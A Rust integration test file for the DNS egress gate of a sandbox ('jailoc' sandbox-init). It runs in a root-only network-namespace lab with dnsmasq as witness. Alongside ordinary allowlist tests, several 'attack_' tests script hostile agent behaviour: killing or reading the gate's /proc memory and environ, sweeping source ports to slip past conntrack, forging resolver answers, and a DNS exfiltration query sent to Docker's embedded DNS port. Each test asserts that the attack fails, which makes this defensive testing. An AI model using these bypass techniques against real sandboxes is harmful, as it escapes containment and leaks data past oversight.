//! Tier 3: sandbox-init's DNS gate in the network-namespace lab (root only; skips with a reason
//! elsewhere, fails when `CI` is set). The lab's dnsmasq and its query log are the witness of
//! what left the sandbox; its listeners say which connections arrived.

use jailoc_tests::lab::{addr, Lab, LabOptions};
use jailoc_tests::{config_dir, require_root, sandbox_init};
use serde_json::Value;

const T: &str = "--timeout-ms 1500";

fn policy(lab: &Lab, egress: &str, hosts: &[&str], extra: &str) -> std::path::PathBuf {
    let home = lab.dir.subdir("home", 0o755);
    let hosts: Vec<String> = hosts.iter().map(|h| format!("\"{h}\"")).collect();
    let toml = format!(
        "egress = \"{egress}\"\nallowed_hosts = [{}]\n{extra}\n[agent]\nuid = 1000\ngid = 1000\nhome = \"{}\"\n",
        hosts.join(", "),
        home.display()
    );
    config_dir(&lab.dir, "config", &[("policy.toml", &toml)])
}

fn dns(name: &str, qtype: &str) -> String {
    format!("dns {name} --server {} --type {qtype} {T}", addr::DNS_V4)
}

fn result(line: Option<&Value>) -> String {
    line.and_then(|l| l["result"].as_str())
        .unwrap_or("missing")
        .to_owned()
}

#[test]
fn an_allowlisted_name_opens_its_answered_addresses_only_after_the_lookup() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = policy(&lab, "allowlist", &["public.lab", "api.lab:443"], "");
    let before = format!("tcp 198.51.100.10:80 {T}");
    let after = "tcp 198.51.100.10:80 --timeout-ms 1499".to_owned();
    let checks = [
        before.clone(),
        "then".to_owned(),
        dns("public.lab", "A"),
        dns("public.lab", "AAAA"),
        dns("api.lab", "A"),
        "then".to_owned(),
        after.clone(),
        format!("tcp [2001:db8::10]:443 {T}"),
        format!("tcp 203.0.113.10:443 {T}"),
        format!("tcp 203.0.113.10:80 {T}"),
    ];
    let mut args = vec!["batch"];
    args.extend(checks.iter().map(String::as_str));
    let run = lab.sandbox(&config, &[("SANDBOX_INIT_LOG", "debug")], &args);
    eprintln!("{}", run.stderr);
    assert_eq!(
        result(run.check(&before)),
        "refused",
        "no lookup, no address"
    );
    assert_eq!(result(run.check(&after)), "connected", "{}", run.stdout);
    assert_eq!(
        result(run.check(&format!("tcp [2001:db8::10]:443 {T}"))),
        "connected"
    );
    assert_eq!(
        result(run.check(&format!("tcp 203.0.113.10:443 {T}"))),
        "connected"
    );
    assert_eq!(
        result(run.check(&format!("tcp 203.0.113.10:80 {T}"))),
        "refused",
        "the entry's port only"
    );
}

/// Starts sandbox-init in the lab with `script` (sh, as the agent) and returns the child: the
/// test drives it through files in `sync` (a directory the agent may write).
fn spawn_agent_script(lab: &Lab, config: &std::path::Path, script: &str) -> std::process::Child {
    let mut cmd = lab.agent_command(&[("SANDBOX_INIT_LOG", "debug")]);
    cmd.arg(sandbox_init())
        .arg("--config-dir")
        .arg(config)
        .args(["--", "/bin/sh", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    cmd.spawn().expect("failed to start sandbox-init")
}

fn wait_for(path: &std::path::Path, what: &str) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !path.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "timed out waiting for {what}"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// The output of a finished child, bounded: a hung sandbox is killed.
fn finish(mut child: std::process::Child) -> (Option<i32>, String, String) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while child.try_wait().ok().flatten().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().expect("wait");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The gate started by the sandbox-init that `unshare` (pid `outer`, as the host sees it)
/// forked: a uid-65533 process whose parent's parent is `outer`. Tests run side by side, each
/// with its own gate.
fn gate_of(outer: u32) -> Option<(u32, String)> {
    let status = |pid: &str| std::fs::read_to_string(format!("/proc/{pid}/status")).ok();
    let field = |text: &str, name: &str| {
        text.lines()
            .find(|l| l.starts_with(name))
            .map(|l| l[name.len()..].trim().to_owned())
            .unwrap_or_default()
    };
    std::fs::read_dir("/proc")
        .ok()?
        .filter_map(|e| e.ok())
        .find_map(|e| {
            let pid = e.file_name().to_string_lossy().into_owned();
            let text = status(&pid)?;
            if !field(&text, "Uid:").starts_with("65533") {
                return None;
            }
            let parent = status(&field(&text, "PPid:"))?;
            if field(&parent, "PPid:") != outer.to_string() {
                return None;
            }
            Some((pid.parse().ok()?, text))
        })
}

fn wait_for_gate(outer: u32) -> (u32, String) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        if let Some(gate) = gate_of(outer) {
            return gate;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the gate never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

fn line<'a>(lines: &'a [Value], check: &str) -> Option<&'a Value> {
    lines.iter().find(|l| l["check"] == check)
}

#[test]
fn a_name_whose_address_changes_while_the_agent_runs_reaches_the_new_one_without_a_restart() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::with(LabOptions {
        extra_names: vec![("moving.lab".into(), "198.51.100.10".into())],
        ..LabOptions::default()
    });
    let config = policy(&lab, "allowlist", &["moving.lab"], "");
    let sync = lab.dir.subdir("sync", 0o777);
    let probe = lab.probe.display().to_string();
    let first = [dns("moving.lab", "A"), format!("tcp 198.51.100.10:80 {T}")];
    let second = [
        format!(
            "dns moving.lab --server {} --type A --timeout-ms 1499",
            addr::DNS_V4
        ),
        format!("tcp 203.0.113.10:80 {T}"),
    ];
    let script = format!(
        "{probe} batch '{}' then '{}'; touch {s}/looked; while [ ! -e {s}/moved ]; do sleep 0.02; done; {probe} batch '{}' then '{}'",
        first[0],
        first[1],
        second[0],
        second[1],
        s = sync.display()
    );
    let child = spawn_agent_script(&lab, &config, &script);
    wait_for(&sync.join("looked"), "the first lookup");
    lab.set_dns_names(&[("moving.lab", "203.0.113.10")]);
    std::fs::write(sync.join("moved"), "").expect("write");
    let (code, stdout, stderr) = finish(child);
    assert_eq!(code, Some(0), "{stderr}");
    let lines = jailoc_tests::probe_lines(&stdout);
    assert_eq!(
        result(line(&lines, &first[1])),
        "connected",
        "{stdout}\n{stderr}"
    );
    let answer = line(&lines, &second[0]).cloned().unwrap_or_default();
    assert!(
        answer["answers"].to_string().contains("203.0.113.10"),
        "{answer}"
    );
    assert_eq!(
        result(line(&lines, &second[1])),
        "connected",
        "{stdout}\n{stderr}"
    );
}

#[test]
fn a_wildcard_covers_the_names_below_its_domain_not_the_domain() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::with(LabOptions {
        extra_names: vec![
            ("a.wild.lab".into(), "198.51.100.10".into()),
            ("wild.lab".into(), "203.0.113.10".into()),
        ],
        ..LabOptions::default()
    });
    let config = policy(&lab, "allowlist", &["*.wild.lab:80"], "");
    let checks = [
        dns("a.wild.lab", "A"),
        dns("wild.lab", "A"),
        "then".to_owned(),
        format!("tcp 198.51.100.10:80 {T}"),
        format!("tcp 198.51.100.10:443 {T}"),
        format!("tcp 203.0.113.10:80 {T}"),
    ];
    let mut args = vec!["batch"];
    args.extend(checks.iter().map(String::as_str));
    let run = lab.sandbox(&config, &[], &args);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.check(&checks[0]).map(|l| l["rcode"].clone()),
        Some(0.into())
    );
    assert_eq!(
        run.check(&checks[1]).map(|l| l["rcode"].clone()),
        Some(3.into()),
        "the domain itself is not covered"
    );
    assert_eq!(result(run.check(&checks[3])), "connected");
    assert_eq!(
        result(run.check(&checks[4])),
        "refused",
        "the entry's port only"
    );
    assert_eq!(result(run.check(&checks[5])), "refused");
    assert!(
        !lab.dns_log().contains(" wild.lab"),
        "wild.lab was forwarded: {}",
        lab.dns_log()
    );
}

#[test]
fn the_gate_works_with_an_ipv6_resolver_and_on_the_legacy_backend() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    lab.set_resolv_conf(&format!("nameserver {}\n", addr::DNS_V6));
    let config = policy(&lab, "allowlist", &["public.lab"], "");
    let dir = jailoc_tests::TempDir::new("jailoc-gate-nonft-");
    let no_nft = jailoc_tests::lab::failing_tools(
        &dir,
        &["iptables-nft", "ip6tables-nft", "iptables", "ip6tables"],
        &["-save", "-restore"],
    );
    let checks = [
        format!("dns public.lab --server {} --type AAAA {T}", addr::DNS_V6),
        dns("public.lab", "A"),
        "then".to_owned(),
        format!("tcp [2001:db8::10]:80 {T}"),
        format!("tcp 198.51.100.10:80 {T}"),
    ];
    let mut args = vec!["batch"];
    args.extend(checks.iter().map(String::as_str));
    for (fakes, backend) in [(vec![], "nft backend"), (no_nft, "legacy backend")] {
        let fakes: Vec<(&str, &std::path::Path)> = fakes
            .iter()
            .map(|(n, p)| (n.as_str(), p.as_path()))
            .collect();
        let run = lab.sandbox_replacing(&fakes, &config, &[], &args);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        assert!(run.stderr.contains(backend), "{}", run.stderr);
        for check in [&checks[3], &checks[4]] {
            assert_eq!(
                result(run.check(check)),
                "connected",
                "{backend}: {check}\n{}\n{}",
                run.stdout,
                run.stderr
            );
        }
    }
}

/// The gate as the agent sees it: another uid, so the agent cannot signal it or read its
/// memory or environment; and the gate itself holds CAP_NET_ADMIN alone, in every set.
#[test]
fn attack_the_agent_cannot_signal_trace_or_read_the_gate_and_it_holds_net_admin_alone() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = policy(&lab, "allowlist", &["public.lab"], "");
    let sync = lab.dir.subdir("sync", 0o777);
    let script = format!(
        "gate=$(grep -l '^Uid:[[:space:]]*65533' /proc/[0-9]*/status | head -n1 | cut -d/ -f3); \
         echo gate=$gate; kill -KILL $gate; echo kill=$?; cat /proc/$gate/environ >/dev/null; echo environ=$?; \
         head -c1 /proc/$gate/mem >/dev/null; echo mem=$?; touch {s}/tried; sleep 2",
        s = sync.display()
    );
    let child = spawn_agent_script(&lab, &config, &script);
    wait_for(&sync.join("tried"), "the agent's attempts");
    // From outside (root): the gate's credentials.
    let (_, gate) = wait_for_gate(child.id());
    let field = |name: &str| {
        gate.lines()
            .find(|l| l.starts_with(name))
            .map(|l| l[name.len()..].trim().to_owned())
            .unwrap_or_default()
    };
    // CAP_NET_ADMIN is bit 12: 0x1000.
    for set in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
        assert_eq!(field(set), "0000000000001000", "{set}\n{gate}");
    }
    assert_eq!(field("NoNewPrivs:"), "1");
    assert!(field("Gid:").starts_with("65533"), "{gate}");
    assert_eq!(field("Groups:"), "");
    let (code, stdout, stderr) = finish(child);
    assert_eq!(
        code,
        Some(0),
        "the gate must survive the agent's attempts: {stderr}"
    );
    assert!(
        stdout.contains("kill=1"),
        "the agent could signal the gate: {stdout}"
    );
    assert!(stdout.contains("environ=1"), "{stdout}");
    assert!(stdout.contains("mem=1"), "{stdout}");
}

/// Fail closed: with the gate gone nothing can be resolved or opened any more, so
/// sandbox-init ends the container with 71 and says why.
#[test]
fn a_killed_gate_ends_the_container_with_71() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = policy(&lab, "allowlist", &["public.lab"], "");
    let child = spawn_agent_script(&lab, &config, "sleep 20");
    let (pid, _) = wait_for_gate(child.id());
    let started = std::time::Instant::now();
    let status = std::process::Command::new("kill")
        .args(["-KILL", &pid.to_string()])
        .status()
        .expect("kill");
    assert!(status.success());
    let (code, _, stderr) = finish(child);
    eprintln!("ended {:?} after the gate was killed", started.elapsed());
    assert_eq!(code, Some(71), "{stderr}");
    assert!(
        stderr.contains("the DNS gate (pid") && stderr.contains("ended (killed by SIGKILL)"),
        "{stderr}"
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "the agent outlived its gate"
    );
}

/// A DNS query as a stub resolver sends it (for the agent's scripts below).
const PY_QUERY: &str = r#"
import socket, struct, select, sys
def msg(qid, name, t=1):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", t, 1)
def answered(r):
    return len(r) > 12 and (r[3] & 15) == 0 and struct.unpack("!H", r[6:8])[0] > 0
"#;

/// The gate's closed upstream sockets leave conntrack entries behind (its port → the
/// resolver's 53, established). The attack: after making the gate forward allowlisted names,
/// send a non-allowlisted name to the resolver from every ephemeral port; one that matches a
/// stale entry would skip the redirect and reach the resolver as an established connection.
/// (The agent waits 5 s for each of its first answers: longer than the gate's 2 s upstream
/// bound, so an upstream answer lost under load comes back SERVFAIL, not as a crash.)
#[test]
fn attack_dns_from_a_port_the_gate_used_does_not_reach_the_resolver() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = policy(&lab, "allowlist", &["api.lab"], "");
    let script = format!(
        r#"{PY_QUERY}
for i in range(50):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(msg(i, "api.lab"), ("{dns}", 53)); s.recv(512); s.close()
lo, hi = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
bypass = 0
def collect(socks):
    global bypass
    poll = select.poll()
    for fd in socks: poll.register(fd, select.POLLIN)
    for fd, _ in poll.poll(300):
        if answered(socks[fd].recv(512)): bypass += 1
    for s in socks.values(): s.close()
socks = {{}}
for port in range(lo, hi + 1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.bind(("0.0.0.0", port))
    except OSError: s.close(); continue
    s.setblocking(False)
    try: s.sendto(msg(port & 0xffff, "internal.lab"), ("{dns}", 53))
    except OSError: pass
    socks[s.fileno()] = s
    if len(socks) >= 500: collect(socks); socks = {{}}
collect(socks)
print("swept", lo, hi, "bypass", bypass)
"#,
        dns = addr::DNS_V4
    );
    let child = spawn_agent_script(&lab, &config, &format!("exec python3 -c '{script}'"));
    let (code, stdout, stderr) = finish(child);
    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("bypass 0"),
        "answers reached the agent past the gate: {stdout}"
    );
    let log = lab.dns_log();
    assert!(
        log.contains("api.lab"),
        "the gate's queries are in the log: {log}"
    );
    assert!(
        !log.contains("internal.lab"),
        "a non-allowlisted name reached the resolver: {log}"
    );
}

/// Docker lets any user bind low ports, and its embedded DNS answers at a local address
/// (127.0.0.11): the agent can sit on the resolver's address and port itself. The attack: the
/// agent binds the resolver's 53, asks the gate for an allowlisted name, answers the gate's
/// upstream query with an address of its choosing, and connects there.
#[test]
fn attack_an_agent_posing_as_the_resolver_cannot_make_the_gate_open_an_address() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let out = lab.exec(
        &lab.agent,
        &["sysctl", "-qw", "net.ipv4.ip_unprivileged_port_start=0"],
    );
    assert!(out.status.success(), "{out:?}");
    lab.set_resolv_conf("nameserver 127.0.0.53\n");
    let config = policy(
        &lab,
        "allowlist",
        &["api.lab"],
        "resolve_timeout_ms = 500\n",
    );
    let script = format!(
        r#"{PY_QUERY}
import threading
fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(("127.0.0.53", 53))
def serve():
    while True:
        q, peer = fake.recvfrom(512)
        a = q[:2] + b"\x81\x80" + q[4:6] + b"\x00\x01\x00\x00\x00\x00" + q[12:] + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([198, 51, 100, 10])
        fake.sendto(a, peer)
threading.Thread(target=serve, daemon=True).start()
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(3)
c.sendto(msg(7, "api.lab"), ("127.0.0.53", 53))
try: r = c.recv(512); print("rcode", r[3] & 15, "answered", answered(r))
except socket.timeout: print("rcode none")
t = socket.socket(); t.settimeout(2)
try: t.connect(("198.51.100.10", 80)); print("connect connected")
except OSError as e: print("connect", e.errno)
"#
    );
    let child = spawn_agent_script(&lab, &config, &format!("exec python3 -c '{script}'"));
    let (code, stdout, stderr) = finish(child);
    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
    assert!(
        !stdout.contains("connect connected"),
        "the forged answer opened an address: {stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("rcode 2"),
        "want SERVFAIL (the forged answer never reached the gate): {stdout}\n{stderr}"
    );
}

/// A restart in a network namespace that holds our rules (a pod keeps its netns): the same
/// policy's rules are kept, and the new gate closes what the previous one opened before it
/// answers anything.
#[test]
fn a_restart_keeps_the_rules_and_the_new_gate_closes_what_the_old_one_opened() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = policy(&lab, "allowlist", &["public.lab"], "");
    let connect = format!("tcp 198.51.100.10:80 {T}");
    let first = lab.sandbox(
        &config,
        &[],
        &["batch", &dns("public.lab", "A"), "then", &connect],
    );
    assert_eq!(
        result(first.check(&connect)),
        "connected",
        "{}",
        first.stderr
    );
    // The second boot: a lookup the gate refuses (answered only once the gate is serving), then
    // the address the first run opened.
    let refused = dns("not-listed.lab", "A");
    let again = "tcp 198.51.100.10:80 --timeout-ms 1499".to_owned();
    let second = lab.sandbox(
        &config,
        &[("SANDBOX_INIT_LOG", "debug")],
        &["batch", &refused, "then", &again],
    );
    assert_eq!(second.code, Some(0), "{}", second.stderr);
    assert!(
        second.stderr.contains("firewall kept"),
        "the rules were not kept: {}",
        second.stderr
    );
    // Kept over netlink, emptied and changed by the gate over netlink: no iptables process.
    assert!(
        !second.stderr.contains("ran iptables") && !second.stderr.contains("ran ip6tables"),
        "an iptables process ran: {}",
        second.stderr
    );
    assert_eq!(result(second.check(&again)), "refused", "{}", second.stderr);
}

/// Docker without IPv6 disables it on the container's loopback too (no ::1) while the IPv6
/// rules still install: the gate listens on 127.0.0.1 alone and the boot goes on.
#[test]
fn a_loopback_without_ipv6_still_boots_and_the_gate_answers_over_ipv4() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let out = lab.exec(
        &lab.agent,
        &["sysctl", "-qw", "net.ipv6.conf.lo.disable_ipv6=1"],
    );
    assert!(out.status.success(), "{out:?}");
    let config = policy(&lab, "allowlist", &["public.lab"], "");
    let connect = format!("tcp 198.51.100.10:80 {T}");
    let run = lab.sandbox(
        &config,
        &[("SANDBOX_INIT_LOG", "debug")],
        &["batch", &dns("public.lab", "A"), "then", &connect],
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.stderr.contains("dns gate: IPv4 only"), "{}", run.stderr);
    assert_eq!(result(run.check(&connect)), "connected", "{}", run.stderr);
}

/// Docker's embedded DNS, as dockerd lays it out in a container's namespace: its sockets on
/// 127.0.0.11 at a port of its own ([`EMBEDDED_PORT`]), and `nat` rules that send
/// 127.0.0.11:53 there and make its answers come from port 53 (moby
/// `daemon/libnetwork/resolver.go`, `setupIPTable`).
const EMBEDDED_PORT: &str = "40000";

fn docker_embedded_dns_nat(lab: &Lab) {
    let to = format!("127.0.0.11:{EMBEDDED_PORT}");
    for rule in [
        vec![
            "-t",
            "nat",
            "-A",
            "OUTPUT",
            "-d",
            "127.0.0.11/32",
            "-p",
            "udp",
            "--dport",
            "53",
            "-j",
            "DNAT",
            "--to-destination",
            &to,
        ],
        vec![
            "-t",
            "nat",
            "-A",
            "POSTROUTING",
            "-s",
            "127.0.0.11/32",
            "-p",
            "udp",
            "--sport",
            EMBEDDED_PORT,
            "-j",
            "SNAT",
            "--to-source",
            ":53",
        ],
    ] {
        let mut args = vec!["iptables"];
        args.extend(rule);
        let out = lab.exec(&lab.agent, &args);
        assert!(out.status.success(), "{args:?}: {out:?}");
    }
    lab.set_resolv_conf("nameserver 127.0.0.11\n");
}

/// A child of this test, killed (by its own pid) when the test ends.
struct Owned(std::process::Child);

impl Drop for Owned {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// dockerd's embedded DNS forwarding to a resolver on the host's loopback (moby:
/// `HostLoopback`, dialled from the host's namespace, not the container's): its listening
/// socket is made in the agent's namespace, its upstream socket in world's, where the lab's
/// dnsmasq (whose query log is the witness) plays the host's resolver.
const EMBEDDED_HOST_LOOPBACK: &str = r#"
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
home = os.open("/proc/self/ns/net", os.O_RDONLY)
assert libc.setns(os.open(sys.argv[1], os.O_RDONLY), 0x40000000) == 0
listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
listen.bind(("127.0.0.11", int(sys.argv[3])))
assert libc.setns(home, 0x40000000) == 0
log = open(sys.argv[2], "a", buffering=1)
log.write("ready\n")
while True:
    q, peer = listen.recvfrom(4096)
    i, labels = 12, []
    while i < len(q) and q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace")); i += 1 + q[i]
    log.write("query %s from %s\n" % (".".join(labels), peer[0]))
    up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); up.settimeout(2)
    try:
        up.sendto(q, (sys.argv[4], 53)); listen.sendto(up.recv(4096), peer)
    except OSError as e:
        log.write("upstream %s\n" % e)
    up.close()
"#;

/// The attack: Docker's embedded DNS listens on 127.0.0.11 at a port of its own, which the
/// agent reads in `/proc/net/udp`. The `nat` redirect catches port 53 only, and loopback is
/// accepted: a query sent to that port never meets the gate. Where dockerd forwards from the
/// host's namespace (a resolver on the host's loopback), a name that is not allowlisted
/// reaches the host's resolver: DNS exfiltration in `allowlist` egress.
#[test]
fn attack_the_agent_cannot_reach_dockers_embedded_dns_at_its_own_port() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let log = lab.dir.path().join("embedded.log");
    let _embedded = Owned(
        std::process::Command::new("ip")
            .args(["netns", "exec", &lab.world, "python3", "-c"])
            .arg(EMBEDDED_HOST_LOOPBACK)
            .arg(format!("/run/netns/{}", lab.agent))
            .arg(&log)
            .arg(EMBEDDED_PORT)
            .arg(addr::DNS_V4)
            .spawn()
            .expect("start the embedded DNS"),
    );
    wait_for(&log, "the embedded DNS");
    docker_embedded_dns_nat(&lab);
    let config = policy(&lab, "allowlist", &["api.lab"], "");
    let script = format!(
        r#"{PY_QUERY}
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(3)
c.sendto(msg(1, "api.lab"), ("127.0.0.11", 53))
try: r = c.recv(512); print("gate rcode", r[3] & 15, "answered", answered(r))
except socket.timeout: print("gate rcode none")
ports = sorted({{int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/udp").read().splitlines()[1:] if l.split()[1].startswith("0B00007F:")}})
print("ports", ports)
for p in ports:
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(3)
    try: d.sendto(msg(2, "secret-1234.exfil.lab"), ("127.0.0.11", p)); r = d.recv(512); print("direct", p, "rcode", r[3] & 15)
    except OSError as e: print("direct", p, "error", e)
"#
    );
    let child = spawn_agent_script(&lab, &config, &format!("exec python3 -c '{script}'"));
    let (code, stdout, stderr) = finish(child);
    let embedded = std::fs::read_to_string(&log).unwrap_or_default();
    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("gate rcode 0 answered True"),
        "control: the allowlisted name through the gate: {stdout}\n{stderr}\n{embedded}"
    );
    assert!(
        !lab.dns_log().contains("secret-1234.exfil.lab"),
        "a name that is not allowlisted reached the resolver past the gate:\n{stdout}\n\
         embedded DNS: {embedded}\nresolver: {}",
        lab.dns_log()
    );
}

/// Docker's embedded DNS forwarding from the container's own namespace (moby's default for a
/// resolver that is not on the host's loopback: `dialExtDNS` runs `ExecFunc`), played by a
/// dnsmasq on 127.0.0.11 that forwards to the lab's resolver. Its upstream queries are DNS
/// from a process that is not the gate: the redirect hands them back to the gate, which asks
/// 127.0.0.11 again. An allowlisted name must still resolve.
#[test]
fn an_allowlisted_name_resolves_through_an_embedded_dns_that_forwards_from_the_container() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let log = lab.dir.path().join("embedded-dnsmasq.log");
    let _embedded = Owned(
        std::process::Command::new("ip")
            .args(["netns", "exec", &lab.agent, "/usr/sbin/dnsmasq"])
            .args([
                "--keep-in-foreground",
                "--no-resolv",
                "--no-hosts",
                "--conf-file=/dev/null",
                "--pid-file=",
                "--user=root",
                "--group=root",
                "--bind-interfaces",
                "--listen-address=127.0.0.11",
                "--cache-size=0",
                "--log-queries",
            ])
            .arg(format!("--port={EMBEDDED_PORT}"))
            .arg(format!("--server={}", addr::DNS_V4))
            .arg(format!("--log-facility={}", log.display()))
            .spawn()
            .expect("start the embedded DNS"),
    );
    wait_for(&log, "the embedded DNS");
    docker_embedded_dns_nat(&lab);
    let config = policy(&lab, "allowlist", &["api.lab"], "");
    let script = format!(
        r#"{PY_QUERY}
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(8)
c.sendto(msg(1, "api.lab"), ("127.0.0.11", 53))
try: r = c.recv(512); print("gate rcode", r[3] & 15, "answered", answered(r))
except socket.timeout: print("gate rcode none")
"#
    );
    let child = spawn_agent_script(&lab, &config, &format!("exec python3 -c '{script}'"));
    let (code, stdout, stderr) = finish(child);
    let embedded = std::fs::read_to_string(&log).unwrap_or_default();
    let asked = embedded.matches("api.lab from 127.0.0.1").count();
    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("gate rcode 0 answered True"),
        "the allowlisted name did not resolve; the embedded DNS was asked {asked} times:\n\
         {stdout}\nembedded DNS: {embedded}\nresolver: {}",
        lab.dns_log()
    );
}
